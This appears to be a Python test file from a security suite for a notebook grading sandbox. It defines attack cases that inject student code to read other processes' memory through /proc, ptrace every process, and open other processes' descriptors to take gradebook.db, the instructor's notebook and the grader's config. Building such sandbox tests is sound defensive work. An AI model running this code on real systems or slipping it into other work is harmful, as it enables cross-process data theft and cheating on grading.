"""Reach into other processes: their memory, their descriptors, their folders."""

from tests.grading.attacks.bank.kit import CALL, attack, fill


@attack("harm: another process is read or changed; leak: any")
def memory_of_other_processes(notebook):
    """Reads canaries out of the memory of every process that it can see."""
    fill(
        notebook,
        """
import os, re

def when_called(*args):
    when_called.__globals__["when_called"] = lambda *args: None
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                for line in maps:
                    start, stop = (int(n, 16) for n in line.split()[0].split("-"))
                    if " rw" in line and stop - start < 1 << 27:
                        try:
                            memory.seek(start)
                            for found in set(re.findall(rb"CANARY[a-z]{4,12}",
                                                        memory.read(stop - start))):
                                loot(found)
                        except OSError:
                            pass
        except OSError as error:
            print(pid, error)
""",
    )


@attack("harm: another process is changed")
def ptrace_of_other_processes(notebook):
    """Attaches a debugger to every process that it can see."""
    fill(
        notebook,
        CALL
        + """
def trace(pid):
    if libc.ptrace(16, pid, 0, 0):
        raise PermissionError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0x40000000)
    libc.ptrace(17, pid, 0, 0)

for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid != os.getpid():
        attempt("ptrace", lambda: trace(pid))
""",
    )


@attack("leak: any")
def descriptors_of_other_processes(notebook):
    """Opens what other processes hold open, and their roots and working folders."""
    fill(
        notebook,
        """
import glob, os
for place in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if os.path.isfile(place):
            loot(open(place, "rb").read(1 << 22))
    except OSError:
        pass
for place in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/course"):
    for name in "gradebook.db", "source/a3_lstm/a3_lstm.ipynb", "nbgrader_config.py":
        try:
            loot(open(os.path.join(place, name), "rb").read())
        except OSError:
            pass
""",
    )


@attack("leak: any", stock="a kernel inherits no open files")
def inherited_descriptors(notebook):
    """Reads, from their start, all descriptors it was born with."""
    fill(
        notebook,
        """
import os, stat
for number in range(3, 256):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode):
            loot(os.pread(number, 1 << 22, 0))
        elif stat.S_ISDIR(os.fstat(number).st_mode):
            loot(open(f"/proc/self/fd/{number}/../course/gradebook.db", "rb").read())
            boast("open-folder")
    except OSError:
        pass
""",
    )
